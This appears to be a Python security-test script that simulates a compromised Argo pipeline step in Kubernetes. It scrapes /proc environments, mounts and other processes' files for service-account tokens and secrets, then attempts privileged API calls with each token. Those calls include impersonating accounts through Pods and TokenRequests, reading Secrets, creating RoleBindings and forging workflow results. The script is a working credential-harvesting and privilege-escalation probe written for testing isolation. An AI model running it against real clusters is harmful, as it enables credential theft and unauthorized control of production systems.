"""What a compromised step does: look for tokens and keys, and try everything that would matter with each of them and with none.

It runs in the container of a step, with the standard library alone, and prints one line of JSON. Its first argument is JSON, too:
the namespaces, an image, and texts that only a Secret contains, each written backwards. Further arguments may be tokens.
"""

import json
import os
import re
import ssl
import sys
import urllib.error
import urllib.request

TOKEN = re.compile(rb"eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}")
SKIPPED = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/dev", "/boot")
LARGEST = 4_000_000


def list_files():
    """Yield every file that could hold a credential: all mounts, what other processes have open, and their root folders."""
    roots = ["/"]
    with open("/proc/mounts") as mounts:
        roots += [line.split()[1] for line in mounts]
    for process in filter(str.isdigit, os.listdir("/proc")):
        yield f"/proc/{process}/environ"
        yield f"/proc/{process}/cmdline"
        roots += [f"/proc/{process}/root/var/run/secrets", f"/proc/{process}/root/argo", f"/proc/{process}/cwd"]
    seen = set()
    for root in roots:
        if root.startswith(SKIPPED) and "/root/" not in root and "/cwd" not in root:
            continue
        for folder, folders, files in os.walk(root, followlinks=False):
            real = os.path.realpath(folder)
            if real in seen or real.startswith(SKIPPED):
                folders[:] = []
                continue
            seen.add(real)
            yield from (os.path.join(folder, name) for name in files)


def search(sentinels):
    """Return the tokens in all readable files and variables, and the secret texts that were found, with the places."""
    tokens, secrets = {}, {}
    places = [(path, None) for path in list_files()] + [("environment", repr(dict(os.environ)).encode())]
    for path, data in places:
        try:
            if data is None:
                if path.startswith("/") and not path.startswith("/proc") and os.path.getsize(path) > LARGEST:
                    continue
                with open(path, "rb") as file:
                    data = file.read(LARGEST)
        except OSError:
            continue
        tokens.update({found.decode(): path for found in TOKEN.findall(data)})
        secrets.update({name: path for name, text in sentinels.items() if text[::-1].encode() in data})
    return tokens, secrets


def call(method, path, token, body=None, content="application/json"):
    """Make one call to the API server, and return its status; 0 if there is no answer."""
    host, port = os.environ.get("KUBERNETES_SERVICE_HOST", ""), os.environ.get("KUBERNETES_SERVICE_PORT", "443")
    headers = {"Content-Type": content} | ({"Authorization": f"Bearer {token}"} if token else {})
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(f"https://{host}:{port}{path}", data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, context=ssl._create_unverified_context(), timeout=20) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        print(f"no answer to {method} {path}: {error}", file=sys.stderr)
        return 0


def pod(account, image):
    """Return a Pod that would run as another account."""
    security = {
        "allowPrivilegeEscalation": False,
        "runAsNonRoot": True,
        "runAsUser": 1000,
        "capabilities": {"drop": ["ALL"]},
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    container = {"name": "main", "image": image, "command": ["sleep", "1"], "securityContext": security}
    spec = {"serviceAccountName": account, "restartPolicy": "Never", "containers": [container]}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"generateName": "stolen-"}, "spec": spec}


def attempts(given):
    """Yield everything that a step must not be able to do: a name, and the call."""
    production, pipelines, triggers, trials = (given[key] for key in ("production", "pipelines", "triggers", "trials"))
    merge = "application/merge-patch+json"
    ledger = f"/api/v1/namespaces/{pipelines}/configmaps/sluice-ledger"
    yield "read the ledger", ("GET", ledger)
    yield "patch the ledger", ("PATCH", ledger, {"data": {"ledger.json": "{}"}}, merge)
    changed = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "sluice-ledger", "annotations": {"changed": "yes"}}}
    yield "replace the ledger", ("PUT", ledger, changed)
    yield "delete the ledger", ("DELETE", f"{ledger}-copy")
    digest, account = "sha256:" + "a" * 64, f"system:serviceaccount:{pipelines}:sluice-pipeline"
    image = f"registry.example/churn@{digest}"
    sluice = f"/apis/sluice.dev/v1alpha1/namespaces/{production}"
    approval = {
        "apiVersion": "sluice.dev/v1alpha1",
        "kind": "RolloutApproval",
        "metadata": {"generateName": "churn-"},
        "spec": {
            "rollout": "churn",
            "digest": digest,
            "image": image,
            "steps": [100],
            "until": "2100-01-01T00:00:00Z",
            "approvedBy": account,
        },
    }
    yield "approve", ("POST", f"{sluice}/rolloutapprovals", approval)
    yield "read the journal", ("GET", f"{sluice}/modelrollouts/churn")
    release = {"digest": digest, "image": image, "number": 1}
    wanted = {"spec": {"release": release, "steps": [100], "requestedBy": account}}
    yield "request a rollout", ("PATCH", f"{sluice}/modelrollouts/churn", wanted, merge)
    ordered = {"spec": {"command": {"id": "1", "kind": "rollback", "by": account}}}
    yield "roll back", ("PATCH", f"{sluice}/modelrollouts/churn", ordered, merge)
    yield "write the journal", ("PATCH", f"{sluice}/modelrollouts/churn/status", {"status": {"phase": "promoted"}}, merge)
    seldon = f"/apis/machinelearning.seldon.io/v1/namespaces/{production}/seldondeployments"
    yield "promote", ("PATCH", f"{seldon}/churn", {"spec": {"predictors": []}}, merge)
    kind = {"apiVersion": "machinelearning.seldon.io/v1", "kind": "SeldonDeployment", "metadata": {"name": "own"}}
    yield "create a deployment", ("POST", seldon, kind | {"spec": {"predictors": []}})
    routes = f"/apis/networking.istio.io/v1beta1/namespaces/{production}/virtualservices/churn"
    yield "move traffic", ("PATCH", routes, {"spec": {"http": []}}, merge)
    for account in ("sluice-gate", "sluice-canary", "sluice-reader", "default"):
        yield f"start a Pod as {account}", ("POST", f"/api/v1/namespaces/{pipelines}/pods", pod(account, given["image"]))
        request = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
        yield f"get a token of {account}", ("POST", f"/api/v1/namespaces/{pipelines}/serviceaccounts/{account}/token", request)
    yield (
        "start a Pod as the controller",
        (
            "POST",
            f"/api/v1/namespaces/{production}/pods",
            pod("sluice-controller", given["image"]),
        ),
    )
    yield "start a Pod for trials", ("POST", f"/api/v1/namespaces/{trials}/pods", pod("default", given["image"]))
    for namespace, name in given["secrets"]:
        yield f"read the Secret {name}", ("GET", f"/api/v1/namespaces/{namespace}/secrets/{name}")
    for namespace in (production, pipelines, triggers):
        yield f"list Secrets in {namespace}", ("GET", f"/api/v1/namespaces/{namespace}/secrets")
        binding = {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"generateName": "stolen-"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
            "subjects": [{"kind": "ServiceAccount", "name": "sluice-pipeline", "namespace": pipelines}],
        }
        yield (
            f"bind a Role in {namespace}",
            (
                "POST",
                f"/apis/rbac.authorization.k8s.io/v1/namespaces/{namespace}/rolebindings",
                binding,
            ),
        )
    argo = f"/apis/argoproj.io/v1alpha1/namespaces/{pipelines}"
    run = re.sub(r"-[a-z]+-[0-9]+$", "", os.environ["HOSTNAME"])
    for name, metadata in (
        ("another step", {"name": f"{run}-1234567890"}),
        ("another workflow", {"name": "other-1234567890", "labels": {"workflows.argoproj.io/workflow": "other"}}),
        ("any step", {"generateName": f"{run}-"}),
    ):
        result = {
            "apiVersion": "argoproj.io/v1alpha1",
            "kind": "WorkflowTaskResult",
            "metadata": {"labels": {"workflows.argoproj.io/workflow": run}} | metadata,
            "outputs": {"parameters": [{"name": "Output", "value": "true"}]},
        }
        yield f"report a false result of {name}", ("POST", f"{argo}/workflowtaskresults", result)
    yield "read workflows", ("GET", f"{argo}/workflows")
    yield "resume a workflow", ("PATCH", f"{argo}/workflows/other", {"spec": {"suspend": False}}, merge)
    workflow = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "metadata": {"generateName": "stolen-"}}
    yield "start a workflow", ("POST", f"{argo}/workflows", workflow | {"spec": {}})
    yield "change a template", ("PATCH", f"{argo}/workflowtemplates/churn-release", {"spec": {}}, merge)
    yield "read Pods", ("GET", f"/api/v1/namespaces/{pipelines}/pods")


def main():
    """Search, try, and print the report."""
    given = json.loads(sys.argv[1])
    tokens, secrets = search(given["sentinels"])
    tokens.update({text: "an output of another step" for text in sys.argv[2:] if TOKEN.fullmatch(text.strip().encode())})
    statuses = {}
    for token in ("", *tokens):
        for name, (method, path, *rest) in attempts(given):
            statuses.setdefault(name, []).append(call(method, path, token, *rest))
    report = {"tokens": sorted(tokens.values()), "secrets": secrets, "statuses": statuses}
    print("REPORT " + json.dumps(report))


main()
